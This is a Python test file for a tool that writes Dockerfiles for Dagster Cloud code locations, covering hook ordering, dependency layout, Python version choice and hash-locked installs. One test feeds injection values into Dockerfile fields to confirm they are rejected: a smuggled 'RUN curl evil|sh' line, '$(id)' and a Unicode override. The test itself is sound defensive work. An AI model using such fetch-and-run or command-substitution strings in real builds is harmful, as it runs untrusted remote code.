"""Dockerfiles in place of Python executables and for lifecycle hooks. That they build is for tests/images to show."""

from __future__ import annotations

import importlib.resources
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hybrid.delivery.images.dockerfile import Dockerfile
from hybrid.switch.finding import Finding, FindingKind, Weight
from hybrid.switch.fixes.catalogue import fixes_for
from hybrid.switch.fixes.dockerfile_from_hooks import POST, PRE, HookedLayout, dockerfile_with_hooks
from hybrid.switch.fixes.dockerfile_from_pex import DEFAULT_PYTHON, layout_of
from hybrid.switch.fixes.fix import Texts, Wishes
from hybrid.switch.fixes.mark import is_unedited, marked

pytestmark = pytest.mark.unit

WISHES = Wishes("prod")


def finding(kind, folder="hello", location="hello", **facts):
    return Finding(kind, Weight.MUST, "dagster_cloud.yaml:3", "what", "why", location, {"folder": folder, **facts})


def made(kind, texts, folder="hello", **facts):
    (fix,) = fixes_for([finding(kind, folder, **facts)], Texts(texts), WISHES).fixes
    return fix, {each.path: each.text for each in fix.files}


def test_hooks_keep_the_order_of_serverless_s_own_dockerfile():
    upstream = (importlib.resources.files("dagster_cloud_cli") / "commands/serverless/Dockerfile").read_text()
    steps = [
        "COPY *dagster_cloud_pre_install.sh *setup.py *pyproject.toml *requirements.txt /",
        f"./{PRE}",
        "pip install .",
        "WORKDIR /opt/dagster/app",
        "COPY . /opt/dagster/app",
        "pip install -r requirements.txt",
        f"./{POST}",
        "dagster-cloud --version",
    ]
    ours = dockerfile_with_hooks(HookedLayout(True, True, True, True, True))

    for text, whose in ((upstream, "Serverless's"), (ours, "ours")):
        places = [text.index(step) for step in steps]
        assert places == sorted(places), f"{whose} has another order"
    assert ours.index("WORKDIR /\n") < ours.index(f"./{PRE}"), "hooks of a base with another WORKDIR are found too"


@given(st.builds(HookedLayout, *[st.booleans()] * 5))
def test_every_step_that_there_is_something_for_is_there_and_no_other(layout):
    text = dockerfile_with_hooks(layout)

    assert (f"./{PRE}" in text) is layout.has_pre
    assert (f"./{POST}" in text) is layout.has_post
    assert ("pip install ." in text) is layout.has_package
    assert ("pip install -r requirements.txt" in text) is layout.has_requirements
    assert Dockerfile(text, {}).references, "our own reader takes it"
    for hook in (PRE, POST):
        run = next((each for each in re.split(r"(?m)^(?=[A-Z]+ )", text) if f"./{hook}" in each), "")
        assert "type=cache" not in run, "what a hook leaves in a mounted cache would be gone"


def test_hooks_stay_in_the_repository_and_keep_every_line():
    texts = {f"hello/{PRE}": "#!/bin/sh\napt-get install -y jq\n", f"hello/{POST}": "echo done\n", "hello/a.py": ""}
    fix, files = made(FindingKind.DOCKER_HOOKS, texts)

    assert set(files) == {"hello/Dockerfile"}, "no hook is written, moved or taken apart"
    assert is_unedited(files["hello/Dockerfile"])
    assert "requirements.txt" not in files["hello/Dockerfile"].partition("COPY .")[2]
    assert any("root" in note for note in fix.notes), "who it runs as is said"


def test_a_base_image_and_an_interpreter_of_other_findings_are_taken_over():
    findings = [
        finding(FindingKind.DOCKER_HOOKS),
        Finding(
            FindingKind.BASE_IMAGE, Weight.MUST, ".github/workflows/a.yml:3", "", "", None, {"image": "r.io/base:1"}
        ),
        finding(FindingKind.EXECUTABLE_PATH, executable_path="/opt/venv/bin/python"),
    ]
    fixes = fixes_for(findings, Texts({f"hello/{PRE}": ""}), WISHES)
    (file,) = fixes.files

    assert Dockerfile(file.text, {}).references == ("r.io/base:1",)
    assert "ENV PATH=/opt/venv/bin:$PATH\n" in file.text
    assert file.text.index("ENV PATH") > file.text.index("dagster-cloud --version"), "builds go by the base's own PATH"


@pytest.mark.parametrize("hostile", ["a b\nRUN curl evil|sh", "$(id)", "-x", "${X}", "", "x" * 600, "\u202eevil"])
@pytest.mark.parametrize(
    ("fact", "kind"),
    [
        ("base_image", "DOCKER_HOOKS"),
        ("executable_path", "DOCKER_HOOKS"),
        ("base_image", "PEX_BUILD"),
        ("python_version", "PEX_BUILD"),
    ],
)
def test_hostile_facts_do_not_become_lines_of_a_dockerfile(hostile, fact, kind):
    fix, files = made(FindingKind[kind], {f"hello/{PRE}": "", "hello/requirements.txt": "dagster\n"}, **{fact: hostile})
    (text,) = files.values()

    _, harmless = made(FindingKind[kind], {f"hello/{PRE}": "", "hello/requirements.txt": "dagster\n"})
    assert text == next(iter(harmless.values())), "it is as if nothing had been said"
    assert not hostile or fact == "python_version" or fix.by_hand, "and that is told"


def test_an_executable_s_requirements_are_all_three_kinds_together():
    texts = {
        "hello/requirements.txt": "# ours\npandas  # tables\n",
        "hello/pyproject.toml": '[project]\nname = "hello"\nversion = "1"\ndependencies = ["dagster-cloud"]\n',
        "hello/setup.py": "from setuptools import setup\nsetup()\n",
        "hello/src/hello/__init__.py": "",
    }
    fix, files = made(FindingKind.PEX_BUILD, texts, python_version="3.12")
    text = files["hello/Dockerfile"]

    assert "COPY pyproject.toml requirements.txt /build/" in text
    assert "-r /build/pyproject.toml -r /build/requirements.txt" in text
    assert '"grpcio-health-checking<1.82"' in text, "as Serverless's own builds constrain it"
    assert "WORKDIR /build/source\nCOPY . ." in text
    assert text.index("/build/requirements.txt") < text.index("COPY . ."), "code does not make dependencies anew"
    assert "BASE_IMAGE=python:3.12-slim" in text
    assert "USER 1000:1000" in text
    assert "PYTHONPATH=/opt/dagster/app/src:/opt/dagster/app" in text
    assert fix.by_hand == ()


@pytest.mark.parametrize(
    ("wanted", "chosen"),
    [("3.10", "3.10"), (">=3.12", "3.12"), (">=3.9,<3.13", "3.11"), ("<3.10", "3.9"), ("two", "3.11"), (">=4", "3.11")],
)
def test_a_range_of_pythons_becomes_serverless_s_default_or_the_lowest_in_it(wanted, chosen):
    _, files = made(FindingKind.PEX_BUILD, {"hello/requirements.txt": "dagster\n"}, python_version=wanted)
    assert f"BASE_IMAGE=python:{chosen}-slim" in files["hello/Dockerfile"]


@pytest.mark.parametrize("line", ["./lib", "-e .", "-r more.txt", "-c limits.txt", "file:./lib", ".", "lib/../x @ ./y"])
def test_requirements_that_name_files_are_installed_where_those_are(line):
    layout, by_hand = layout_of(Texts({"requirements.txt": f"dagster\n{line}\n"}), "")

    if line.startswith("lib"):
        assert layout.requirements == ("requirements.txt",)
        return
    assert layout.requirements == ()
    assert layout.from_folder == ("-r requirements.txt",)
    assert layout.editable is line.startswith("-e"), "a link must lead to where the image has the folder"
    assert by_hand == []


@pytest.mark.parametrize(
    "line", ["../shared", "-e ../shared[x]", "/srv/lib", "-r ../all.txt", "./a/../../b", "file:///x"]
)
def test_a_requirement_outside_the_folder_is_told(line):
    _, by_hand = layout_of(Texts({"hello/requirements.txt": f"{line}\n"}), "hello")
    assert len(by_hand) == 1
    assert line in by_hand[0]


def test_a_lock_with_hashes_is_held_to_them_and_nothing_is_added():
    texts = {"requirements.lock": "dagster==1 --hash=sha256:00\n", "pyproject.toml": "[project]\nname = 'x'\n"}
    layout, _ = layout_of(Texts(texts), "")

    assert layout.hashed
    assert layout.further == (), "an addition without a hash would be refused"
    assert layout.from_folder == ("--no-deps .",)


def test_a_dockerfile_of_somebody_s_own_is_left_and_ours_is_brought_up_to_date():
    texts = {"hello/requirements.txt": "dagster\n", "hello/Dockerfile": "FROM mine\n"}
    fix, files = made(FindingKind.PEX_BUILD, texts)
    assert files == {}
    assert "hello/Dockerfile" in fix.title

    _, files = made(FindingKind.NO_IMAGE, texts | {"hello/Dockerfile": marked("FROM old\n")})
    assert "hello/Dockerfile" in files


def test_nothing_to_install_is_told():
    fix, _ = made(FindingKind.PEX_BUILD, {"hello/a.py": ""})
    assert "names no requirements" in fix.by_hand[0]


@given(st.text(max_size=300), st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_whatever_the_files_hold_a_dockerfile_comes_of_it_that_can_be_read(requirements, pyproject):
    _, files = made(FindingKind.PEX_BUILD, {"hello/requirements.txt": requirements, "hello/pyproject.toml": pyproject})
    assert Dockerfile(files["hello/Dockerfile"], {}).references == (f"python:{DEFAULT_PYTHON}-slim",)
